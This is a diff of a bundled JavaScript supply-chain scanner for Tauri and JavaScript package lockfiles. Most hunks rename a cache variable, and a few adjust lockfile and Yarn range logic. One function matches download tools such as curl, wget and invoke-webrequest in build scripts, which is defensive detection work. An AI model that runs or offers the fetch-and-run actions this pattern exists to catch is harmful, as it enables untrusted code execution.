@@ -9623,8 +9623,8 @@ function assign(table2, { key: key3, value }, depth, place) {
   holder.entries.set(nameOf(last), { key: place(last.range), value: convert(value, below7, place) });
 }
 function enter(table2, key3, place) {
-  const known7 = table2.entries.get(nameOf(key3))?.value;
-  if (known7 !== void 0) return latest(known7, key3);
+  const known8 = table2.entries.get(nameOf(key3))?.value;
+  if (known8 !== void 0) return latest(known8, key3);
   const made2 = tableAt(place(key3.range));
   table2.entries.set(nameOf(key3), { key: place(key3.range), value: made2 });
   return made2;
@@ -9640,9 +9640,9 @@ function latest(value, key3) {
 }
 function append(holder, key3, header, place) {
   const made2 = tableAt(header);
-  const known7 = holder.entries.get(nameOf(key3))?.value;
-  if (known7?.kind === "array") {
-    known7.items.push(made2);
+  const known8 = holder.entries.get(nameOf(key3))?.value;
+  if (known8?.kind === "array") {
+    known8.items.push(made2);
     return made2;
   }
   const list = { kind: "array", items: [made2], at: header };
@@ -9805,12 +9805,12 @@ var LineReader = class {
   /** `[[name]]`, or `[[holder.name]]`. */
   #append(holder, name, made2) {
     const parent = holder === void 0 ? this.#root : this.#holder(holder);
-    const known7 = parent?.entries.get(name)?.value;
-    if (known7?.kind === "array" && known7.items[0]?.kind === "object") {
-      known7.items.push(made2);
+    const known8 = parent?.entries.get(name)?.value;
+    if (known8?.kind === "array" && known8.items[0]?.kind === "object") {
+      known8.items.push(made2);
       return true;
     }
-    if (parent === void 0 || known7 !== void 0) return false;
+    if (parent === void 0 || known8 !== void 0) return false;
     const column = holder === void 0 ? 3 : holder.length + 4;
     const list = { kind: "array", items: [made2], at: made2.at };
     parent.entries.set(name, { key: this.#place(column), value: list });
@@ -9819,8 +9819,8 @@ var LineReader = class {
   /** Tables that exist only because a header `[[holder.name]]` names them. Any other table may not be added to. */
   #holders = /* @__PURE__ */ new Map();
   #holder(name) {
-    const known7 = this.#holders.get(name);
-    if (known7 !== void 0 || this.#root.entries.has(name)) return known7;
+    const known8 = this.#holders.get(name);
+    if (known8 !== void 0 || this.#root.entries.has(name)) return known8;
     const at2 = this.#place(3);
     const made2 = { kind: "object", entries: /* @__PURE__ */ new Map(), at: at2 };
     this.#root.entries.set(name, { key: at2, value: made2 });
@@ -9871,8 +9871,8 @@ function unquoted(text3) {
 // src/formats/parse.ts
 function parseFile(file2, options = {}) {
   const format = formatOf(file2.path, options.json5 ?? false);
-  const known7 = parsed.get(file2)?.get(format);
-  if (known7 !== void 0) return known7;
+  const known8 = parsed.get(file2)?.get(format);
+  if (known8 !== void 0) return known8;
   const result2 = parseAs(file2, format);
   const results = parsed.get(file2) ?? /* @__PURE__ */ new Map();
   parsed.set(file2, results.set(format, result2));
@@ -9951,8 +9951,8 @@ function includesIn(config) {
 // src/tauri/cargo/manifest.ts
 function readManifest(file2) {
   if (file2 === void 0) return void 0;
-  const known7 = read.get(file2);
-  if (known7 !== void 0) return known7;
+  const known8 = read.get(file2);
+  if (known8 !== void 0) return known8;
   const parsed7 = parseFile(file2);
   if (!parsed7.ok) return void 0;
   const manifest2 = manifestOf(file2.path, parsed7.value);
@@ -11220,7 +11220,7 @@ function isHarmlessFlag({ name, value }) {
       return /^(?:|y|yes|on|true|n|no|off|false)$/.test(value);
     case "-C link-arg":
     case "-C link-args":
-      return value.split(/\s+/).every((word2) => FOR_LINKER.some((known7) => known7.test(word2)));
+      return value.split(/\s+/).every((word2) => FOR_LINKER.some((known8) => known8.test(word2)));
     default:
       return name === "-C debug-assertions" || HARMLESS.has(name);
   }
@@ -11488,10 +11488,10 @@ function settingsOf2(commands2) {
     const words3 = ran.words.flatMap((word2) => /^(?:-[eD]|--env=)?TAURI_CONFIG=(.*)$/is.exec(word2)?.[1] ?? []);
     const says = SAYS.test(ran.source);
     for (const json of [...words3, ...valuesIn(ran)].filter((value) => value !== "")) {
-      const known7 = found9.get(json);
-      const everywhere = words3.includes(json) || known7?.everywhere === true;
-      const isBetter = known7 === void 0 || says && !SAYS.test(known7.ran.source);
-      found9.set(json, { json, ran: isBetter ? ran : known7.ran, everywhere });
+      const known8 = found9.get(json);
+      const everywhere = words3.includes(json) || known8?.everywhere === true;
+      const isBetter = known8 === void 0 || says && !SAYS.test(known8.ran.source);
+      found9.set(json, { json, ran: isBetter ? ran : known8.ran, everywhere });
     }
   }
   return [...found9.values()];
@@ -12332,8 +12332,8 @@ function filledIn(text3, variables, reference) {
 }
 var CALL = /^call\s+([\w-]+)\s*(?:,(.*))?$/s;
 function calledWith(value, args) {
-  const known7 = value?.replace(/\$\{?(\d)\}?/g, "");
-  if (value === void 0 || known7 === void 0 || /[$`]/.test(known7)) return void 0;
+  const known8 = value?.replace(/\$\{?(\d)\}?/g, "");
+  if (value === void 0 || known8 === void 0 || /[$`]/.test(known8)) return void 0;
   const places2 = value.match(ARGUMENT)?.length ?? 0;
   if (value.length + places2 * args.length > LONGEST_CALL) return void 0;
   const given2 = args.split(",");
@@ -12353,8 +12353,8 @@ function withoutCalls(command, variables) {
 }
 var MOST_HELD = 2e4;
 function heldBy(variables) {
-  const known7 = held.get(variables);
-  if (known7 !== void 0) return known7;
+  const known8 = held.get(variables);
+  if (known8 !== void 0) return known8;
   const words3 = [...variables].flat();
   const made2 = { words: words3, length: words3.join(" ").length };
   held.set(variables, made2);
@@ -12568,9 +12568,9 @@ function additionsOf(piece, scope) {
   }
 }
 function variableValues({ name, splits, otherwise }, scope) {
-  const known7 = scope.args.get(name) ?? lookedUp(name, scope.variables);
+  const known8 = scope.args.get(name) ?? lookedUp(name, scope.variables);
   const instead = otherwise === null ? [] : piecesValues(otherwise, scope);
-  if (known7 !== void 0 || otherwise !== null) return [...known7 ?? [], ...instead];
+  if (known8 !== void 0 || otherwise !== null) return [...known8 ?? [], ...instead];
   return [[splits ? UNKNOWN_WORDS : UNKNOWN]];
 }
 function lookedUp(name, variables) {
@@ -12684,9 +12684,9 @@ var ScriptRun = class {
     );
   }
   #add(name, values) {
-    const known7 = this.#variables.get(name) ?? [];
-    if (known7.length === 1 && known7[0]?.[0] === UNKNOWN) return;
-    const all = [...known7, ...values];
+    const known8 = this.#variables.get(name) ?? [];
+    if (known8.length === 1 && known8[0]?.[0] === UNKNOWN) return;
+    const all = [...known8, ...values];
     const distinct6 = [...new Map(all.map((value) => [JSON.stringify(value), value])).values()];
     this.#variables.set(name, distinct6.length > MOST_VALUES ? [[UNKNOWN]] : distinct6);
   }
@@ -12749,9 +12749,9 @@ var ScriptRun = class {
   #enter(groups3) {
     let folders = this.#folders;
     for (const group2 of groups3) {
-      const known7 = this.#groups.get(group2);
-      if (known7 === void 0) this.#groups.set(group2, folders);
-      else folders = known7;
+      const known8 = this.#groups.get(group2);
+      if (known8 === void 0) this.#groups.set(group2, folders);
+      else folders = known8;
     }
     return folders;
   }
@@ -12936,10 +12936,10 @@ function tooManyCommands(app, on3) {
 
 // src/tauri/builds/identity.ts
 function dependenciesAmong(commands2) {
-  let known7;
+  let known8;
   return (command, isBuilt2 = false) => {
-    known7 ??= partsOf4(commands2);
-    const parts = known7;
+    known8 ??= partsOf4(commands2);
+    const parts = known8;
     const taken3 = /* @__PURE__ */ new Set();
     const own = [command.source, ...command.from];
     const needed2 = new Set(own.every(isKnown) ? [] : GIVES_TO_STEPS);
@@ -13314,8 +13314,8 @@ function namedIn(value) {
   if (value.kind !== "object") return [];
   return [...value.entries].flatMap(([key3, { value: text3 }]) => {
     if (ENVIRONMENT.test(key3) && text3.kind === "object") return namedIn(text3);
-    const known7 = text3.kind === "object" ? UNKNOWN : withoutTemplates(textOf(text3));
-    return [[heededName(key3), [[known7]]]];
+    const known8 = text3.kind === "object" ? UNKNOWN : withoutTemplates(textOf(text3));
+    return [[heededName(key3), [[known8]]]];
   });
 }
 function computedIn(value, depth) {
@@ -13446,13 +13446,13 @@ function withHandedOn(variables, steps) {
     const text3 = asString(member(step, "run")) ?? "";
     if (!text3.includes("GITHUB_ENV")) continue;
     if (text3.length > LONGEST_RUN) {
-      for (const [name, known7] of found9) found9.set(name, [...known7, [UNKNOWN_WORDS]]);
+      for (const [name, known8] of found9) found9.set(name, [...known8, [UNKNOWN_WORDS]]);
       continue;
     }
     for (const [, name = "", value = ""] of text3.matchAll(HANDS_ON)) {
-      const known7 = found9.get(heededName(name));
+      const known8 = found9.get(heededName(name));
       const isWritten = isKnown(value) && !/[$`%]/.test(value);
-      if (known7 !== void 0) found9.set(name, [...known7, [isWritten ? value : UNKNOWN_WORDS]]);
+      if (known8 !== void 0) found9.set(name, [...known8, [isWritten ? value : UNKNOWN_WORDS]]);
     }
   }
   return found9;
@@ -13761,8 +13761,8 @@ var MOST_RESULTS = 8;
 var Recent = class {
   #results = /* @__PURE__ */ new Map();
   get(key3, compute) {
-    const known7 = this.#results.get(key3);
-    if (known7 !== void 0) return known7;
+    const known8 = this.#results.get(key3);
+    if (known8 !== void 0) return known8;
     const result2 = compute();
     this.#results.set(key3, result2);
     const [oldest] = this.#results.keys();
@@ -13828,8 +13828,8 @@ function targetsOf(ran) {
   return [...namedTargets(ran), ...downloaded(ran.words), ...fromGit(ran.words)].map(folderOfPattern);
 }
 function folderOfPattern(word2) {
-  const [known7 = ""] = (word2.split(UNKNOWN, 1)[0] ?? "").split(UNKNOWN_WORDS, 1);
-  return known7 !== word2 && known7.includes("/") ? known7.slice(0, known7.lastIndexOf("/")) : word2;
+  const [known8 = ""] = (word2.split(UNKNOWN, 1)[0] ?? "").split(UNKNOWN_WORDS, 1);
+  return known8 !== word2 && known8.includes("/") ? known8.slice(0, known8.lastIndexOf("/")) : word2;
 }
 function downloaded(words3) {
   if (!words3.some((word2) => /^(?:curl|wget|iwr|invoke-webrequest)$/.test(programOf(word2)))) return [];
@@ -14210,8 +14210,8 @@ function readSpec(spec) {
 
 // src/tauri/cargo/local-crates.ts
 function localCrates(workspace, files) {
-  const known7 = reached.get(workspace);
-  if (known7 !== void 0) return known7;
+  const known8 = reached.get(workspace);
+  if (known8 !== void 0) return known8;
   const found9 = /* @__PURE__ */ new Map();
   const todo = workspace.own === void 0 ? [] : [workspace.own];
   const add4 = (folder) => todo.push(...manifestIn2(folder, files));
@@ -14461,8 +14461,8 @@ var Resolution = class {
   #node(path, unit, isRoot = false) {
     const key3 = this.#key(path, unit);
     const crate2 = this.#crates.get(path);
-    const known7 = this.#nodes.get(key3);
-    if (known7 !== void 0 || crate2 === void 0) return known7;
+    const known8 = this.#nodes.get(key3);
+    if (known8 !== void 0 || crate2 === void 0) return known8;
     const node = {
       crate: crate2,
       unit,
@@ -14756,16 +14756,16 @@ function indexOf(packages) {
 }
 function file(index, key3, each) {
   const own = each.source.kind === "path" ? each : void 0;
-  const known7 = index.get(key3);
-  if (known7 === void 0) {
+  const known8 = index.get(key3);
+  if (known8 === void 0) {
     index.set(key3, { first: each, count: 1, own, owns: own === void 0 ? 0 : 1, oneVersion: true });
     return;
   }
-  known7.count += 1;
-  known7.oneVersion &&= known7.first.version === each.version;
+  known8.count += 1;
+  known8.oneVersion &&= known8.first.version === each.version;
   if (own === void 0) return;
-  known7.own = own;
-  known7.owns += 1;
+  known8.own = own;
+  known8.owns += 1;
 }
 function keyOf(parts) {
   return JSON.stringify(parts);
@@ -15205,8 +15205,8 @@ function shared(a3, b5) {
 
 // src/engine/standing-code.ts
 function standingCode(base, head, { base: there, head: here }) {
-  const known7 = new Set(base.filter(isCode2).map(({ role, path }) => `${role} ${path}`));
-  const added = head.filter(isCode2).filter(({ role, path }) => !known7.has(`${role} ${path}`));
+  const known8 = new Set(base.filter(isCode2).map(({ role, path }) => `${role} ${path}`));
+  const added = head.filter(isCode2).filter(({ role, path }) => !known8.has(`${role} ${path}`));
   const stands = (path) => there.contents.isFile(path) && there.contents.at(path) === here.contents.at(path);
   const isThere2 = (path, role) => role === "install-script" && there.contents.isFile(path);
   const sharesCode = (folder) => here.listing.entries.some(({ path }) => path.startsWith(folder) && path.endsWith(".rs") && stands(path));
@@ -15634,9 +15634,9 @@ function macrosIn(file2) {
   return file2 === void 0 ? BUILT_IN : new Map([...BUILT_IN, ...prepared(file2).macros]);
 }
 function prepared(file2) {
-  const known7 = read3.get(file2) ?? prepare(file2.path, readGitAttributes(file2.text));
-  read3.set(file2, known7);
-  return known7;
+  const known8 = read3.get(file2) ?? prepare(file2.path, readGitAttributes(file2.text));
+  read3.set(file2, known8);
+  return known8;
 }
 function prepare(path, { rules: rules2, macros }) {
   return {
@@ -16212,7 +16212,7 @@ var MOST = 4096;
 var MOST_STEPS2 = 3e7;
 var MOST_FOR_ONE = 1e7;
 function remembered(answer) {
-  const known7 = /* @__PURE__ */ new Map();
+  const known8 = /* @__PURE__ */ new Map();
   const ofReviews = /* @__PURE__ */ new WeakMap();
   let kept = 0;
   return (question, work) => {
@@ -16230,14 +16230,14 @@ function remembered(answer) {
     return own;
   }
   function paidFor(question, work) {
-    const outcome2 = known7.get(question) ?? keep2(question, outcomeOf(answer, question));
+    const outcome2 = known8.get(question) ?? keep2(question, outcomeOf(answer, question));
     pay(question, outcome2, work);
     return outcome2;
   }
   function keep2(question, outcome2) {
-    if (known7.size >= MOST || kept > MOST_STEPS2) known7.clear();
-    kept = known7.size === 0 ? outcome2.steps : kept + outcome2.steps;
-    known7.set(question, outcome2);
+    if (known8.size >= MOST || kept > MOST_STEPS2) known8.clear();
+    kept = known8.size === 0 ? outcome2.steps : kept + outcome2.steps;
+    known8.set(question, outcome2);
     return outcome2;
   }
   function pay(question, outcome2, work) {
@@ -16562,8 +16562,8 @@ var ClassReader = class {
     const first = this.#item();
     this.#text.skip();
     if (this.#text.isAtEnd) throw new RefusedExpression("a class that doesn't close");
-    const isRange2 = this.#text.peek() === "-" && !/^[\]-]$/.test(this.#text.peekBehindSpace());
-    if (!isRange2) return typeof first === "string" ? oneOf(first) : first;
+    const isRange3 = this.#text.peek() === "-" && !/^[\]-]$/.test(this.#text.peekBehindSpace());
+    if (!isRange3) return typeof first === "string" ? oneOf(first) : first;
     this.#text.takeAndSkip();
     if (this.#text.isAtEnd) throw new RefusedExpression("a class that doesn't close");
     const last = this.#item();
@@ -16669,10 +16669,10 @@ var WORDS2 = {
   "\\b{end-half}": (_3, after2) => after2 !== "in"
 };
 var atWords = (of2, holds6) => {
-  const known7 = LOOKS2.get(of2) ?? /* @__PURE__ */ new Map();
-  LOOKS2.set(of2, known7);
-  const found9 = known7.get(holds6) ?? look(of2, holds6);
-  known7.set(holds6, found9);
+  const known8 = LOOKS2.get(of2) ?? /* @__PURE__ */ new Map();
+  LOOKS2.set(of2, known8);
+  const found9 = known8.get(holds6) ?? look(of2, holds6);
+  known8.set(holds6, found9);
   return found9;
 };
 var LOOKS2 = /* @__PURE__ */ new WeakMap();
@@ -17114,6 +17114,18 @@ var FILE_ROLES = [
 function byPath(pattern) {
   return (path) => pattern.test(path);
 }
+function inApp(is) {
+  return (path, apps) => {
+    const atRoot = byRoot(apps);
+    return withAncestors(folderOf(path)).some((root) => atRoot.get(root)?.some((app) => is(path, app)));
+  };
+}
+var known = /* @__PURE__ */ new WeakMap();
+function byRoot(apps) {
+  const atRoot = known.get(apps) ?? Map.groupBy(apps, ({ root }) => root);
+  known.set(apps, atRoot);
+  return atRoot;
+}
 function ofApp(is) {
   return (path, apps) => apps.some((app) => is(path, app));
 }
@@ -17135,13 +17147,13 @@ var FILES = [
 // src/readers/cargo-lock/needs.ts
 function neededCrates(base, head) {
   const inBase = new Set(base.map(identityOf2));
-  const known7 = Map.groupBy(base, (crate2) => crate2.name);
+  const known8 = Map.groupBy(base, (crate2) => crate2.name);
   const added = Map.groupBy(
     head.filter((crate2) => !inBase.has(identityOf2(crate2))),
     (crate2) => crate2.name
   );
   return [...added].flatMap(([name, crates]) => {
-    const old = known7.get(name) ?? [];
+    const old = known8.get(name) ?? [];
     const risk = riskOf(name, old);
     return [...crates, ...old].flatMap((crate2) => needOf(crate2, risk) ?? []);
   });
@@ -17245,8 +17257,8 @@ function buildScriptTarget(manifest2, folder) {
 
 // src/tauri/cargo/built-code.ts
 function builtCode(project) {
-  const known7 = found2.get(project);
-  if (known7 !== void 0) return known7;
+  const known8 = found2.get(project);
+  if (known8 !== void 0) return known8;
   const code2 = builtCrates(project).flatMap((built) => codeOf2(built, project.contents));
   found2.set(project, code2);
   return code2;
@@ -17381,9 +17393,9 @@ function lockedNeeds(workspace, files) {
   );
 }
 function needsBeside(workspace, files) {
-  const known7 = new Set(localCrates(workspace, files).map(({ manifest: manifest2 }) => manifest2.path));
+  const known8 = new Set(localCrates(workspace, files).map(({ manifest: manifest2 }) => manifest2.path));
   return [...files.keys()].flatMap((path) => {
-    if (baseName(path) !== "Cargo.toml" || known7.has(path) || !isMember(workspace, folderOf(path))) return [];
+    if (baseName(path) !== "Cargo.toml" || known8.has(path) || !isMember(workspace, folderOf(path))) return [];
     const manifest2 = readManifest(files.get(path));
     if (manifest2?.name === void 0) return [];
     return dependenciesOf(manifest2, workspace.root).map((dependency) => ({ dependency, path }));
@@ -18240,10 +18252,10 @@ function frontPages(project, frontend) {
     isLikely: likely.has(file2.path)
   }));
 }
-var known = /* @__PURE__ */ new WeakMap();
+var known2 = /* @__PURE__ */ new WeakMap();
 function marksOf(file2) {
-  const marks = known.get(file2) ?? readPage(file2.text);
-  known.set(file2, marks);
+  const marks = known2.get(file2) ?? readPage(file2.text);
+  known2.set(file2, marks);
   return marks;
 }
 function builtPages(root, frontend) {
@@ -19186,7 +19198,7 @@ function packagesIn(table2) {
   }
   return { packages, gaps };
 }
-function faultOf(location, known7) {
+function faultOf(location, known8) {
   const parts = location.split("/", DEEPEST2 + 1);
   if (parts.length > DEEPEST2) {
     const message2 = `${code(location)} lies deeper than npm would nest it and was not compared.`;
@@ -19195,7 +19207,7 @@ function faultOf(location, known7) {
   const climbs = parts.findIndex((part) => part !== "..");
   const inside = climbs < 0 ? [""] : parts.slice(climbs);
   const isPlain = location === "" || inside.every((part) => part !== "" && part !== "." && part !== "..");
-  if (isPlain && !location.includes("\\") && !known7.has(location.toLowerCase())) return void 0;
+  if (isPlain && !location.includes("\\") && !known8.has(location.toLowerCase())) return void 0;
   const message = `${code(location)} is another spelling of a folder, so it isn't known which entry npm takes. Let npm write the lockfile anew.`;
   return { kind: "not-followed", message };
 }
@@ -19644,8 +19656,8 @@ var NEWEST_MANAGER = /^(?:self-update|set version)\b(?! \d+\.\d+\.\d+(?:\s|$))/;
 // src/readers/npm-packages/install-commands.ts
 var MANAGERS3 = /^(?:.*[\\/])?(?:npm|pnpm|pnpx|yarn|yarnpkg|bunx?)(?:\.(?:cmd|exe))?(?:@[\w.^~-]+)?$/;
 function managersIn(word2) {
-  const known7 = INSTALLERS.filter((name) => new Set(word2.match(/pnpm|npm|yarn|bun/g)).has(name));
-  return known7.length > 0 && isKnown(word2) ? known7 : INSTALLERS;
+  const known8 = INSTALLERS.filter((name) => new Set(word2.match(/pnpm|npm|yarn|bun/g)).has(name));
+  return known8.length > 0 && isKnown(word2) ? known8 : INSTALLERS;
 }
 var NAMES_FOLDER3 = /* @__PURE__ */ new Set(["prefix", "C", "dir", "cwd"]);
 var INSTALLS2 = new Set(
@@ -20025,11 +20037,11 @@ function isTableOf(value, is) {
   return value.kind === "object" && [...value.entries.values()].every((entry) => is(entry.value));
 }
 var REMEDY2 = "Take it out, or let Bun write the lockfile anew.";
-function unreadFields2(what, name, table2, known7) {
+function unreadFields2(what, name, table2, known8) {
   if (table2.kind !== "object") return [];
   const gaps = [];
   for (const [field3, { key: key3, value }] of table2.entries) {
-    const shape = known7.get(field3);
+    const shape = known8.get(field3);
     if (shape?.is(value) === true) continue;
     const why = shape === void 0 ? "isn't read" : `isn't ${shape.words}`;
     const message = `${code(field3)} of ${what} ${code(name)} ${why}, and Bun may fetch or run what it says. ${REMEDY2}`;
@@ -20078,8 +20090,8 @@ var GITHUB = /^github:([\w.-]+\/[\w.-]+)(?:#(.*))?$/s;
 var GIT = /^git\+(?:(?:ssh|https?|file):\/\/|git@)/;
 var MAYBE_GIT = /^https?:\/\/(?:[^/]*@)?(?:www\.)?github\.com\/[^/]+\/[^/]+\/?(?:#|$)|\.git(?:[/?#]|$)/i;
 function kindOf(text3) {
-  const known7 = PREFIXES.find(([prefix]) => text3.startsWith(prefix))?.[1];
-  if (known7 !== void 0) return known7;
+  const known8 = PREFIXES.find(([prefix]) => text3.startsWith(prefix))?.[1];
+  if (known8 !== void 0) return known8;
   if (isVersion(text3)) return "npm";
   if (GITHUB.test(text3) || GIT.test(text3)) return "git";
   if (/^https?:\/\//i.test(text3)) return MAYBE_GIT.test(text3) ? "unknown" : "tarball";
@@ -20219,8 +20231,8 @@ function namesIn2(path) {
 }
 function folderAt(tree, names3) {
   return names3.reduce((folder, name) => {
-    const known7 = folder.inside.get(name);
-    if (known7 !== void 0) return known7;
+    const known8 = folder.inside.get(name);
+    if (known8 !== void 0) return known8;
     const made2 = { ...emptyTree(), name, parent: folder };
     folder.inside.set(name, made2);
     return made2;
@@ -20295,8 +20307,8 @@ var ReleaseReader = class {
       );
   }
   #releaseOf(entry) {
-    const known7 = this.byKey.get(entry.key);
-    if (known7 !== void 0) return known7;
+    const known8 = this.byKey.get(entry.key);
+    if (known8 !== void 0) return known8;
     const version = entry.id.kind === "npm" ? entry.id.text : this.#workspaces.get(entry.key)?.version ?? "";
     const made2 = { entry, version, names: /* @__PURE__ */ new Set(), needs: /* @__PURE__ */ new Map(), hasInstallScript: false };
     this.byKey.set(entry.key, made2);
@@ -20542,8 +20554,7 @@ function answersIn(workspaces, releases, isOldest) {
     const meant = asks.find(
       (ask) => ask.text === text3 || isOldest && isLink && text3.startsWith("workspace:")
     );
-    if (meant === void 0) return void 0;
-    if (held3 === null) return meant.isOptional ? null : void 0;
+    if (meant === void 0 || held3 === null) return void 0;
     return isLink ? null : held3.entry.key;
   };
 }
@@ -20609,11 +20620,11 @@ function documentFields(format, isEnvironment) {
   return new Map([...OF_DOCUMENTS, ...OF_PROJECTS, ...format.hasSnapshots ? SNAPSHOTS : OLDER]);
 }
 var REMEDY3 = "Take it out, or let pnpm write the lockfile anew.";
-function unreadFields3(subject, { key: key3, value }, known7) {
+function unreadFields3(subject, { key: key3, value }, known8) {
   if (value.kind !== "object") return [oddity(subject, key3, "is no table", value)];
   const gaps = [];
   for (const [field3, entry] of value.entries) {
-    const shape = known7.get(field3);
+    const shape = known8.get(field3);
     if (shape?.is(entry.value)) continue;
     const why = shape === void 0 ? "isn't read" : `isn't ${shape.words}`;
     const message = `${code(field3)} of ${named2(subject)} ${why}, and pnpm may fetch or run what it says. ${REMEDY3}`;
@@ -20637,7 +20648,8 @@ function restsOn({ kind, name }, what, value) {
 function answered({ folder, requirements }, format, instances, releases, gaps) {
   const answers = requirements.map((requirement) => {
     const { name, reference, entry } = requirement;
-    const key3 = reference === null ? null : format.keyOf(reference, name);
+    if (reference === null) return { ...requirement, release: void 0 };
+    const key3 = format.keyOf(reference, name);
     if (key3 === null) return { ...requirement, release: null };
     const release = instances.get(key3);
     if (release === void 0) {
@@ -20898,8 +20910,8 @@ function repositoryOf2(value) {
   const commit = COMMIT.test(text3) ? text3 : null;
   const address = repository.replace(/^git\+/, "").replace(/^git@([\w.-]+):(?!\/)/, "ssh://git@$1/");
   const resolved3 = /^git:/.test(address) ? address : `git+${address}`;
-  const known7 = npmSource({ name: "", version: "", resolved: resolved3, local: false });
-  return known7.kind === "git" && !address.includes("#") ? { ...known7, commit } : { kind: "git", url: repository, reference: "", commit };
+  const known8 = npmSource({ name: "", version: "", resolved: resolved3, local: false });
+  return known8.kind === "git" && !address.includes("#") ? { ...known8, commit } : { kind: "git", url: repository, reference: "", commit };
 }
 function inFolder3(source, folder) {
   const path = folder.replace(/^\/+/, "");
@@ -20932,9 +20944,9 @@ function entryAt(format, text3, entry, gaps) {
     return null;
   }
   const resolution = unlessUnnamed(resolutionOf(table2, written6), written6, idOf(text3));
-  const known7 = RESOLUTION_FIELDS.get(resolution.type);
-  if (known7 === void 0) odd("is fetched in a way that isn't followed");
-  else gaps.push(...unreadFields3(subject, { key: entry.key, value: table2 }, known7));
+  const known8 = RESOLUTION_FIELDS.get(resolution.type);
+  if (known8 === void 0) odd("is fetched in a way that isn't followed");
+  else gaps.push(...unreadFields3(subject, { key: entry.key, value: table2 }, known8));
   for (const why of oddities(key3, written6, resolution, entry)) odd(why);
   const release = resolution.target === null ? written6 : { ...written6, version: "" };
   return {
@@ -21063,17 +21075,17 @@ var PnpmReleases = class {
     this.#gaps = gaps;
   }
   add({ release, locked }) {
-    const known7 = this.#drafts.get(release);
-    if (known7 === void 0) {
+    const known8 = this.#drafts.get(release);
+    if (known8 === void 0) {
       this.#drafts.set(release, { locked, isOptional: null, names: /* @__PURE__ */ new Set(), needs: /* @__PURE__ */ new Set() });
       return;
     }
-    const { integrity, version } = known7.locked;
-    if (integrity !== locked.integrity || version !== locked.version) this.#tellTwins(release, known7, locked);
-    known7.locked = {
-      ...known7.locked,
+    const { integrity, version } = known8.locked;
+    if (integrity !== locked.integrity || version !== locked.version) this.#tellTwins(release, known8, locked);
+    known8.locked = {
+      ...known8.locked,
       integrity: locked.integrity === null ? null : integrity,
-      hasInstallScript: known7.locked.hasInstallScript ?? locked.hasInstallScript
+      hasInstallScript: known8.locked.hasInstallScript ?? locked.hasInstallScript
     };
   }
   /** pnpm checks each entry by its own hash, so one of them may be other code under the same name. */
@@ -21389,8 +21401,8 @@ function paramsIn(query) {
   const params = new Map(pairs);
   return params.size === pairs.length ? params : null;
 }
-function has2(params, ...known7) {
-  return [...params.keys()].every((name) => known7.includes(name));
+function has2(params, ...known8) {
+  return [...params.keys()].every((name) => known8.includes(name));
 }
 function packageAt2(name, source, version = null) {
   return { name, source, version, kind: "package", isSoft: false, target: null, patches: [] };
@@ -21640,8 +21652,8 @@ var YarnGraph = class {
     const first = this.#drafts.get(base)?.entry;
     if (first === void 0 || entry.kind === "patched" || isSame3(first, entry)) return base;
     const identity = wordsOf(base, entry.version, entry.integrity);
-    const known7 = this.#keys.get(identity);
-    if (known7 !== void 0) return known7;
+    const known8 = this.#keys.get(identity);
+    if (known8 !== void 0) return known8;
     const count = (this.#counts.get(base) ?? 1) + 1;
     this.#counts.set(base, count);
     const key3 = `${base} (${count})`;
@@ -21726,7 +21738,7 @@ var YarnGraph = class {
     const entry = code(block.descriptors.join(", "));
     const message = `The entry ${entry} asks for ${code(descriptor)}, which has no entry, so Yarn may take the newest release that fits.`;
     const rests = wordsOf("yarn", "no entry", descriptor);
-    const blocking = !unasked.has(nameIn5(descriptor));
+    const blocking = !(isRange(descriptor) && unasked.has(nameIn5(descriptor)));
     this.#gaps.push(gapAt(block.fields.at, { kind: "not-followed", rests, message, blocking }));
   }
   /** Yarn may patch what the repository patches: then the longer locator has the shorter one within. */
@@ -21739,6 +21751,9 @@ var YarnGraph = class {
     return [...byPath2.values()].sort((one2, other) => comparePlaces(one2.at, other.at));
   }
 };
+function isRange(descriptor) {
+  return !/[@:/]/.test(asked(descriptor)?.text.replace(/^npm:/, "") ?? "@");
+}
 function nameIn5(descriptor) {
   return asked(descriptor)?.name ?? descriptor;
 }
@@ -22816,7 +22831,7 @@ function folderSettings(path, manifest2, files, contents) {
     ...settingsOf3(member(manifest2, "pnpm"), "package.json", inPnpm),
     ...builtInManifest(member(manifest2, "dependenciesMeta")),
     ...settingsOf3(read9("pnpm-workspace.yaml"), "pnpm-workspace.yaml", inPnpm),
-    ...settingsOf3(read9(".yarnrc.yml"), ".yarnrc.yml", (name) => YARN.get(name) ?? known2(HARMLESS_YARN, name)),
+    ...settingsOf3(read9(".yarnrc.yml"), ".yarnrc.yml", (name) => YARN.get(name) ?? known3(HARMLESS_YARN, name)),
     ...settingsOf3(read9(".yarnrc"), ".yarnrc", inYarnClassic),
     ...settingsOf3(member(bunfig, "install"), "bunfig.toml", inBun),
     ...bunRuns(bunfig)
@@ -22838,12 +22853,12 @@ function bunRuns(bunfig) {
   ];
 }
 function inPnpm(name) {
-  return PNPM.get(name) ?? known2(HARMLESS_PNPM, name);
+  return PNPM.get(name) ?? known3(HARMLESS_PNPM, name);
 }
 function inBun(name) {
-  return BUN.get(name) ?? known2(HARMLESS_BUN, name);
+  return BUN.get(name) ?? known3(HARMLESS_BUN, name);
 }
-function known2(harmless, name) {
+function known3(harmless, name) {
   return harmless.has(name) ? "harmless" : "unknown";
 }
 function builtInManifest(table2) {
@@ -23011,11 +23026,13 @@ var WANTED = /* @__PURE__ */ new Set([
 ]);
 var STEPS_ASIDE = 6;
 function mayConcern(path, app) {
-  const [folder, name] = [folderOf(path), baseName(path)];
-  if (path.endsWith(INSTALLED))
-    return withAncestors(app.root).some((each) => inFolder(each, INSTALLED) === path);
-  if (isLeftByYarn(path, withAncestors(app.root))) return true;
-  if (withAncestors(app.root).includes(folder)) return WANTED.has(name) || BRANCH_LOCK.test(name);
+  const name = baseName(path);
+  const isNamed6 = WANTED.has(name) || BRANCH_LOCK.test(name);
+  if (!isNamed6 && !path.endsWith(INSTALLED) && !LEFT_BY_YARN.test(path)) return false;
+  const [folder, above] = [folderOf(path), withAncestors(app.root)];
+  if (path.endsWith(INSTALLED)) return above.some((each) => inFolder(each, INSTALLED) === path);
+  if (isLeftByYarn(path, above)) return true;
+  if (above.includes(folder)) return isNamed6;
   const aside = name === "package.json" ? below(folderOf(app.root), folder) : void 0;
   return aside !== void 0 && !aside.includes("node_modules") && aside.split("/").length <= STEPS_ASIDE;
 }
@@ -23230,10 +23247,10 @@ function isAnswered(lock, folder, place, name, text3) {
   const isRecorded2 = meant === text3 || lock.manager === "yarn" || isCatalogOf(lock, name, text3, meant);
   const key3 = isRecorded2 ? lock.answerTo(place, name, lock.manager === "yarn" ? meant : text3) : void 0;
